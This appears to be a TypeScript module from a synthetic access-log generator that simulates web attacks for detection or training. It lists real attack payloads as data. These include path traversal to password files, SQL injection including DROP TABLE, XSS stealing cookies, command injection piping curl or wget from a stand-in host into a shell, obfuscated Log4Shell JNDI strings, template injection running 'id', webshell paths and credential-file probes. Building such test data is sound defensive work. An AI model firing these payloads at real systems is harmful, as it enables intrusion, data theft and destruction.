/** Attacks on web sites that an access log shows. */
import type { Kind, Scene } from '../kind.ts';
import { web, type Visit } from '../logs.ts';

/** One request after another from one address. */
function requests(
  scene: Scene,
  targets: readonly string[],
  visit: Partial<Visit>,
  stepMs: number,
): void {
  const source = scene.stranger();
  const fromMs = scene.at(scene.random.int(1, 22));
  for (const [index, target] of targets.entries())
    web(scene, fromMs + index * stepMs, { status: 200, ...visit, source, target });
}

const KNOWN_FILES = [
  '/.env',
  '/.git/config',
  '/.aws/credentials',
  '/wp-config.php.bak',
  '/backup.sql',
  '/.ssh/id_rsa',
  '/phpinfo.php',
  '/.htpasswd',
  '/config.php~',
  '/.svn/entries',
  '/server-status',
  '/actuator/env',
];

/** A kind whose happenings each send some of these from a new address. */
function payloads(
  name: string,
  sentence: string,
  targets: readonly string[],
  visit: Partial<Visit> = {},
): Kind {
  return {
    name,
    sentence,
    happen: (scene) =>
      requests(
        scene,
        scene.random.shuffle(targets).slice(0, Math.max(3, Math.ceil(targets.length / 2))),
        visit,
        scene.random.int(2000, 30_000),
      ),
  };
}

export const WEB_ATTACKS: readonly Kind[] = [
  payloads('path_traversal', 'one address climbs out of the folder of the site', [
    '/download?file=../../../../etc/passwd',
    '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd',
    '/static/..%252f..%252f..%252fetc/shadow',
    '/view.php?page=....//....//....//etc/hosts',
    '/images/..%c0%af..%c0%afwindows/win.ini',
    '/index.php?lang=..%5C..%5C..%5Cboot.ini',
    '/icons/.%%32%65/.%%32%65/proc/self/environ',
  ]),
  payloads('remote_file_inclusion', 'one address lets the site include a file of another', [
    '/index.php?page=http://198.51.100.9/s.txt%3F',
    '/a.php?include=php://filter/convert.base64-encode/resource=index.php',
    '/a.php?f=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==',
    '/index.php?module=ftp://198.51.100.9/c.txt',
    '/v.php?p=expect://id',
  ]),
  payloads('sql_injection', 'one address puts SQL into parameters', [
    '/item?id=1%27%20OR%20%271%27=%271',
    '/item?id=-1+UNION+ALL+SELECT+1,user(),version(),4--+-',
    '/item?id=5;WAITFOR+DELAY+%270:0:5%27--',
    '/item?id=1+AND+SLEEP(5)',
    '/item?id=1%20AND%20(SELECT%203%20FROM(SELECT%20COUNT(*),CONCAT(0x71,(SELECT%20database()),FLOOR(RAND(0)*2))x%20FROM%20information_schema.tables%20GROUP%20BY%20x)a)',
    '/login?user=admin%27--&pass=x',
    '/item?id=1%27;DROP%20TABLE%20orders;--',
    '/item?id=1/**/uNiOn/**/sElEcT/**/password/**/from/**/users',
  ]),
  payloads('cross_site_scripting', 'one address puts scripts into parameters', [
    '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E',
    '/search?q=%3Csvg/onload=fetch(%27//198.51.100.9%27)%3E',
    '/profile?url=javascript:alert(document.domain)',
    '/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E',
    '/search?q=%3Ciframe%20src=javascript:alert(1)%3E',
  ]),
  payloads('command_injection', 'one address puts shell commands into parameters', [
    '/ping?host=127.0.0.1;id',
    '/ping?host=127.0.0.1%7Ccat%20/etc/passwd',
    '/cgi-bin/test.cgi?x=%60wget%20http://198.51.100.9/a%60',
    '/ping?host=$(curl%20198.51.100.9/x%7Csh)',
    '/setup.cgi?next_file=a.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.9/m.sh',
    '/ping?host=a%26%26whoami',
  ]),
  payloads('log4shell', 'one address has Java look things up elsewhere', [
    '/?x=$%7Bjndi:ldap://198.51.100.9:1389/a%7D',
    '/api?v=${jndi:rmi://198.51.100.9/b}',
    '/login?name=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F198.51.100.9%2Fc%7D',
    '/search?q=${${::-j}${::-n}${::-d}${::-i}:dns://198.51.100.9/d}',
  ]),
  {
    name: 'log4shell_in_the_agent',
    sentence: 'one address has Java look things up, by the name of its browser',
    happen: (scene) =>
      requests(
        scene,
        ['/', '/login', '/api'],
        { agent: '${jndi:ldap://198.51.100.9:1389/Basic/Command/Base64/aWQ=}' },
        5000,
      ),
  },
  payloads('template_injection', 'one address puts expressions of templates into parameters', [
    '/hello?name=%7B%7B7*7%7D%7D',
    "/hello?name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    '/hello?name=${T(java.lang.Runtime).getRuntime().exec(%22id%22)}',
    '/hello?name=%23%7B7*7%7D&x=%3C%25%3D%207*7%20%25%3E',
    '/struts.action?x=%25%7B(%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS)%7D',
  ]),
  {
    name: 'sensitive_files',
    sentence: 'one address asks slowly for files that must not be on a web site',
    happen: (scene) =>
      requests(
        scene,
        scene.random.shuffle(KNOWN_FILES).slice(0, 8),
        { status: 404 },
        scene.random.int(20_000, 90_000),
      ),
  },
  payloads(
    'backdoors',
    'one address looks for doors that others left open',
    [
      '/wp-content/plugins/hello/shell.php?cmd=id',
      '/c99.php',
      '/r57.php',
      '/uploads/wso.php',
      '/alfa.php',
      '/images/cmd.aspx',
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/boaform/admin/formLogin?username=ec8&psd=ec8',
    ],
    { status: 404 },
  ),
  {
    name: 'scanner_by_name',
    sentence: 'a scanner says its name and finds pages that exist',
    happen(scene) {
      const agents = [
        'sqlmap/1.9#stable (https://sqlmap.org)',
        'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)',
        'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
        'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
        'WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)',
      ];
      const targets = Array.from({ length: 25 }, (_, index) => `/item?id=${index}`);
      requests(scene, targets, { agent: scene.random.pick(agents) }, 1500);
    },
  },
  {
    name: 'form_guessing',
    sentence: 'one address guesses at the login of a WordPress, which answers 200 each time',
    happen: (scene) =>
      requests(
        scene,
        Array.from({ length: 300 }, () => '/wp-login.php'),
        { method: 'POST' },
        1000,
      ),
  },
  {
    name: 'basic_auth_guessing',
    sentence: 'one address guesses the password of a protected folder',
    happen: (scene) =>
      requests(
        scene,
        Array.from({ length: 200 }, () => '/admin/'),
        { status: 401 },
        1500,
      ),
  },
  {
    name: 'api_login_guessing',
    sentence: 'one address guesses at the login of an application, slowly',
    happen: (scene) =>
      requests(
        scene,
        Array.from({ length: 120 }, () => '/api/v1/login'),
        { method: 'POST', status: 401 },
        8000,
      ),
  },
  {
    name: 'slow_fuzzing',
    sentence: 'one address asks for a path that is not there every few seconds',
    happen: (scene) =>
      requests(
        scene,
        Array.from({ length: 300 }, () => `/${scene.random.token(5)}`),
        { status: 404 },
        scene.random.int(3000, 6000),
      ),
  },
  {
    name: 'fuzzing',
    sentence: 'one address asks for hundreds of paths that are not there, as fast as it can',
    happen: (scene) =>
      requests(
        scene,
        Array.from({ length: 400 }, (_, index) => `/${scene.random.token(4)}${index}`),
        { status: scene.random.pick([404, 403]) },
        60,
      ),
  },
  {
    name: 'open_proxy',
    sentence: 'one address tries whether the server speaks for others',
    happen(scene) {
      const source = scene.stranger();
      for (let time = 0; time < 12; time += 1) {
        const atMs = scene.at(13) + time * 20_000;
        if (time % 2 === 0)
          web(scene, atMs, { source, target: 'example.net:443', method: 'CONNECT', status: 405 });
        else web(scene, atMs, { source, target: 'http://example.net/judge.php', status: 404 });
      }
    },
  },
];
